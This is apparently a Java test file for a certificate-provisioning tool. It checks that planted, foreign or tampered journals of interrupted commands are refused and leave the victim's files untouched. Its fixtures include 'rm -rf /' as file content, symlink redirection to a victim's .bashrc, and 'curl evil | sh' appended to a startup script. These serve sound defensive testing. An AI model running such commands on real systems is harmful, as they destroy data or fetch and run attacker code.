// SPDX-License-Identifier: Apache-2.0
package io.fedtrust.provisioning.core;

import static io.fedtrust.provisioning.core.Refusals.refused;
import static io.fedtrust.provisioning.core.Refusals.refusedWithoutTrace;
import static io.fedtrust.provisioning.core.Refusals.snapshot;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.fedtrust.provisioning.core.io.EffectiveUser;
import io.fedtrust.provisioning.core.io.FailPoint;
import io.fedtrust.provisioning.error.ErrorCode;
import io.fedtrust.provisioning.error.ProvisioningException;
import io.fedtrust.provisioning.model.Inspection;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A journal in a folder that came from elsewhere moves nothing. */
class UntrustedJournalTest {
  @TempDir Path temp;
  private World world;

  @BeforeEach
  void makeWorld() throws IOException {
    world = new World(Files.createDirectory(temp.resolve("world")));
    world.ca();
    world.approve(world.request(World.client("site-1")));
    world.writeFixtureKeys();
  }

  @Test
  @DisplayName("a planted journal of 0.1 moves nothing, whatever command meets it")
  void plantedOldJournal() throws IOException {
    Path victim = world.write("victim/.bashrc", "precious");
    Path loot = world.write("site-1/evil", "rm -rf /");
    Path link = Files.createSymbolicLink(world.path("site-1/out"), victim.getParent());
    for (String folder : List.of("site-1", "ca")) {
      plantOld(world.path(folder), loot, link.resolve(".bashrc"));
    }
    plantOld(
        world.write("workspace/fed_test/state/.site-1.journal", "").getParent().getParent(),
        "state/.site-1.journal");
    requireNothingMoved(victim);
  }

  @Test
  @DisplayName(
      "a journal with the code of another account moves nothing, whatever command meets it")
  void otherAccount() throws IOException {
    Path victim = world.write("victim/.bashrc", "precious");
    InterruptedCommand.interrupt("request", world.root);
    InterruptedCommand.interrupt("roll-over", world.root);
    changeAccount();
    Files.move(world.path("ca/.bak"), Files.createDirectory(world.path("away")).resolve("bak"));
    requireNothingMoved(victim);
  }

  private void requireNothingMoved(Path victim) throws IOException {
    world.host().account().key();
    Path site = world.path("site-1");
    Path ca = world.path("ca");
    Map<String, String> caBefore = snapshot(ca);
    // The account remembers the ledger's head that it sees here; the folder is as it was.
    world.engine().inspect(ca).inspect();
    assertThat(snapshot(ca)).isEqualTo(caBefore);
    Map<String, String> before = snapshot(world.root);
    for (Path folder : List.of(site, ca)) {
      Inspection inspection = world.engine().inspect(folder).inspect();
      assertThat(inspection.sound()).isFalse();
      assertThat(inspection.checks())
          .anyMatch(check -> check.code().filter("JOURNAL_UNTRUSTED"::equals).isPresent());
      assertThat(snapshot(world.root)).isEqualTo(before);
      refusedWithoutTrace(
          ErrorCode.JOURNAL_UNTRUSTED, world.root, () -> world.engine().clean(folder, true));
      refusedWithoutTrace(
          ErrorCode.JOURNAL_UNTRUSTED, world.root, () -> world.engine().clean(folder, false));
    }
    for (String command : List.of("package", "request", "roll-over")) {
      refusedWithoutTrace(
          ErrorCode.JOURNAL_UNTRUSTED, world.root, () -> CrashingProcess.run(command, world));
    }
    assertThat(victim).hasContent("precious");
  }

  @Test
  @DisplayName("approve reports a planted journal in the CA folder and goes on")
  void approveGoesOn() throws IOException {
    plantOld(world.path("ca"), "rootCA.pem", "../x");
    world.warnings.clear();
    world.approve(world.request(World.client("site-2")));
    assertThat(world.warnings).anyMatch(text -> text.contains("journal"));
    assertThat(world.path("ca/.journal.fedtrust")).exists();
  }

  @ParameterizedTest
  @DisplayName("a command that another account began is not completed by this one")
  @ValueSource(strings = {"roll-over", "request", "package", "repackage"})
  void begunByOther(String operation) throws IOException {
    interrupted(operation);
    changeAccount();
    refusedWithoutTrace(
        ErrorCode.JOURNAL_UNTRUSTED, world.root, () -> CrashingProcess.run(operation, world));
  }

  @ParameterizedTest
  @DisplayName("a command of this account is reported by inspect and completed by clean")
  @ValueSource(strings = {"roll-over", "request", "package", "repackage"})
  void begunHere(String operation) throws IOException {
    Path journal = interrupted(operation);
    Path folder = journal.getParent();
    if (!operation.equals("repackage")) {
      Map<String, String> before = snapshot(world.root);
      assertThat(world.engine().inspect(folder).inspect().facts().get("interrupted_change"))
          .contains("this account");
      assertThat(snapshot(world.root)).isEqualTo(before);
    } else {
      folder = folder.getParent();
    }
    Map<String, String> before = snapshot(world.root);
    assertThat(world.engine().clean(folder, false)).anyMatch(line -> line.contains("would"));
    assertThat(snapshot(world.root)).isEqualTo(before);
    assertThat(world.engine().clean(folder, true)).anyMatch(line -> line.startsWith("completed"));
    assertThat(InterruptedCommand.journals(world.root)).isEmpty();
  }

  @Test
  @DisplayName("an inspection of a request does not complete a rollover of its CA")
  void inspectionOfRequest() throws IOException {
    interrupted("roll-over");
    world.write("profile.yaml", "name: fed_test\n");
    Map<String, String> before = snapshot(world.root);
    world
        .engine()
        .inspect(world.path("site-1/site-1.request.zip"))
        .caFolder(world.path("ca"))
        .profile(world.path("profile.yaml"))
        .inspect();
    assertThat(snapshot(world.root)).isEqualTo(before);
  }

  @Test
  @DisplayName("a staged kit that was exchanged is not put in place")
  void exchangedKit() throws IOException {
    Path journal = interrupted("repackage");
    try (var staged = Files.newDirectoryStream(journal.getParent(), ".startup.*.fedtrust-tmp")) {
      Path script = staged.iterator().next().resolve("start.sh");
      Files.writeString(script, Files.readString(script) + "curl evil | sh\n");
    }
    refusedWithoutTrace(
        ErrorCode.JOURNAL_UNTRUSTED, world.root, () -> CrashingProcess.run("repackage", world));
    world.engine().openKit(world.path("workspace/fed_test/prod_00/site-1"));
  }

  @ParameterizedTest
  @DisplayName("an archive that tar unpacks with owners and modes does not carry a trusted journal")
  @ValueSource(strings = {"--same-owner", "--no-same-owner"})
  void archive(String owner) throws Exception {
    InterruptedCommand.interrupt("request", world.root);
    Path archive = world.path("x.tar");
    OtherUsers.run("tar", "-C", world.root.toString(), "-cpf", archive.toString(), "site-1");
    World victim = new World(Files.createDirectory(temp.resolve("victim")));
    OtherUsers.run("tar", "-C", victim.root.toString(), "-xp", owner, "-f", archive.toString());
    assertThat(mode(victim.path("site-1/.journal.fedtrust"))).isEqualTo("rw-------");
    victim.host().account().key();
    refusedWithoutTrace(
        ErrorCode.JOURNAL_UNTRUSTED,
        victim.root,
        () ->
            victim
                .engine()
                .request(World.definition(World.client("site-1")))
                .force()
                .writeTo(victim.path("site-1")));
    refusedWithoutTrace(
        ErrorCode.JOURNAL_UNTRUSTED,
        victim.root,
        () -> victim.engine().clean(victim.path("site-1"), true));
  }

  @Test
  @DisplayName(
      "with umask 0002 an interrupted command is completed, and no file is writable to all")
  void umask() throws Exception {
    OtherUsers.run(
        "sh",
        "-c",
        "umask 0002; exec \"$@\"",
        "sh",
        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
        "-cp",
        System.getProperty("java.class.path"),
        InterruptedCommand.class.getName(),
        "request",
        world.root.toString());
    assertThat(mode(world.path("site-1/.journal.fedtrust"))).isEqualTo("rw-------");
    assertThat(world.engine().clean(world.path("site-1"), true))
        .anyMatch(line -> line.startsWith("completed"));
    assertThat(mode(world.path("site-1/site-1.key"))).isEqualTo("rw-------");
  }

  @Test
  @DisplayName("another user with HOME kept, as under sudo -E, does not use the account's key")
  void otherUser() throws Exception {
    assumeTrue(EffectiveUser.uid().orElse(-1) == 0, "needs root");
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")), "needs setpriv");
    InterruptedCommand.interrupt("request", world.root);
    Path home = Files.createDirectory(temp.resolve("home"));
    Files.move(world.path("account"), home.resolve(".fedtrust"));
    Path library = Files.createDirectory(temp.resolve("library"));
    OtherUsers.run("chown", "-R", "12345:12345", home.toString(), world.root.toString());
    OtherUsers.run("chmod", "0755", temp.toRealPath().toString());
    String output =
        OtherUsers.run(
            "/usr/bin/setpriv",
            "--reuid=12345",
            "--regid=12345",
            "--clear-groups",
            "env",
            "HOME=" + home,
            Path.of(System.getProperty("java.home"), "bin", "java").toString(),
            "-Duser.home=" + home,
            "-cp",
            OtherUsers.readableClassPath(library),
            OtherUser.class.getName(),
            world.path("site-1").toString());
    assertThat(output).contains("account: none").contains("JOURNAL_UNTRUSTED");
    assertThat(world.path("site-1/.journal.fedtrust")).exists();
  }

  /** Cleans a folder as the engine does by default. */
  public static final class OtherUser {
    private OtherUser() {}

    public static void main(String[] args) {
      System.out.println(
          "account: "
              + io.fedtrust.provisioning.core.account.AccountFolder.ofProcess()
                  .path()
                  .map(Path::toString)
                  .orElse("none"));
      try {
        new EngineBuilder().build().clean(Path.of(args[0]), true);
      } catch (ProvisioningException e) {
        System.out.println(e.code());
      }
    }
  }

  @Test
  @DisplayName("an account without a folder works without journals, and says so")
  void noAccount() throws IOException {
    World poor = new World(Files.createDirectory(temp.resolve("poor")));
    Files.createFile(poor.path("account"));
    poor.kit(World.client("site-1"));
    poor.writeFixtureKeys();
    FailPoint noJournal =
        (step, path) -> assertThat(InterruptedCommand.journals(poor.root)).isEmpty();
    World watched = new World(poor.root, List.of(), noJournal);
    for (String command : List.of("repackage", "request", "roll-over")) {
      CrashingProcess.run(command, watched);
    }
    assertThat(watched.warnings).anyMatch(text -> text.contains("no other command can complete"));
    assertThat(poor.path("workspace/fed_test/state/.prod_00.hint")).doesNotExist();
    poor.engine().openKit(poor.path("workspace/fed_test/prod_00/site-1"));
  }

  @Test
  @DisplayName("--discard-journal sets the journal aside and says which key fits which certificate")
  void discard() throws IOException {
    CrashingProcess.run("package", world);
    InterruptedCommand.interrupt("request", world.root);
    changeAccount();
    Path site = world.path("site-1");
    plantOld(site.resolve("x"), "a", "b");
    List<String> done = world.engine().discardJournals(site);
    assertThat(site.resolve(".journal.fedtrust")).doesNotExist();
    assertThat(site.resolve(".journal.untrusted-1")).exists();
    assertThat(done)
        .anyMatch(line -> line.startsWith("set aside") && line.endsWith(".journal.untrusted-1"))
        .anyMatch(line -> line.startsWith("staged") && line.contains(".site-1.key."))
        .anyMatch(line -> line.endsWith("site-1.key is the key of " + site.resolve("site-1.crt")))
        .anyMatch(line -> line.endsWith("is the key of no certificate here"));
    CrashingProcess.run("request", world);
    assertThat(world.engine().discardJournals(site)).noneMatch(line -> line.startsWith("set"));

    plantOld(site, "a", "b");
    world.engine().discardJournals(site);
    assertThat(site.resolve(".journal.untrusted-2")).exists();
  }

  @Test
  @DisplayName("a journal of this account is completed, not set aside")
  void discardsNoOwnJournal() throws IOException {
    Path journal = InterruptedCommand.interrupt("request", world.root);
    assertThat(world.engine().discardJournals(journal.getParent()))
        .anyMatch(line -> line.startsWith("kept"));
    assertThat(journal).exists();
    assertThat(world.engine().clean(journal.getParent(), true))
        .anyMatch(line -> line.startsWith("completed"));
  }

  @Test
  @DisplayName("a backup folder that is a link, or that others can write to, receives no key")
  void linkedBackup() throws IOException {
    Path elsewhere = Files.createDirectory(temp.resolve("elsewhere"));
    Path backup = Files.createSymbolicLink(world.path("site-1/.bak"), elsewhere);
    refused(ErrorCode.OUTPUT_DIR_NOT_WRITABLE, () -> CrashingProcess.run("request", world));
    assertThat(elsewhere).isEmptyDirectory();
    Files.delete(backup);
    Files.createDirectory(backup);
    Files.setPosixFilePermissions(backup, PosixFilePermissions.fromString("rwxrwxrwx"));
    refused(ErrorCode.OUTPUT_DIR_NOT_WRITABLE, () -> CrashingProcess.run("request", world));
    assertThat(backup).isEmptyDirectory();
    assertThat(world.path("site-1/site-1.key")).exists();
  }

  @Test
  @DisplayName("lock files of 0.1 are removed by clean; other hidden files stay")
  void oldLocks() throws IOException {
    for (String name : List.of("site-1/.request.lock", "site-1/.mine.lock")) {
      Files.setLastModifiedTime(
          world.write(name, ""),
          java.nio.file.attribute.FileTime.from(World.NOW.minusSeconds(3600)));
    }
    world.engine().clean(world.path("site-1"), true);
    assertThat(world.path("site-1/.request.lock")).doesNotExist();
    assertThat(world.path("site-1/.mine.lock")).exists();
    assertThat(world.path("site-1/.fedtrust.lock")).exists();
  }

  private Path interrupted(String operation) {
    if (operation.equals("repackage")) {
      CrashingProcess.run("package", world);
    }
    return InterruptedCommand.interrupt(operation, world.root);
  }

  /** From now on this world has another account, whose key is made. */
  private void changeAccount() throws IOException {
    Files.move(world.path("account"), temp.resolve("first-account"));
    world.host().account().key();
  }

  private static void plantOld(Path folder, Path from, Path to) throws IOException {
    plantOld(folder, ".journal.fedtrust", from, to);
  }

  private static void plantOld(Path folder, String from, String to) throws IOException {
    Files.createDirectories(folder);
    plantOld(folder, Path.of(from), Path.of(to));
  }

  private static void plantOld(Path project, String journal) throws IOException {
    plantOld(project, journal, Path.of("a"), Path.of("b"));
  }

  private static void plantOld(Path folder, String journal, Path from, Path to) throws IOException {
    Path file = folder.resolve(journal);
    Files.writeString(
        file,
        "fedtrust-journal 1\ninstall "
            + encode(folder.toAbsolutePath().relativize(from.toAbsolutePath()))
            + " "
            + encode(folder.toAbsolutePath().relativize(to.toAbsolutePath()))
            + "\nend\n");
    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-------"));
  }

  private static String encode(Path path) {
    return Base64.getUrlEncoder().encodeToString(path.toString().getBytes(UTF_8));
  }

  private static String mode(Path path) throws IOException {
    return PosixFilePermissions.toString(Files.getPosixFilePermissions(path));
  }
}
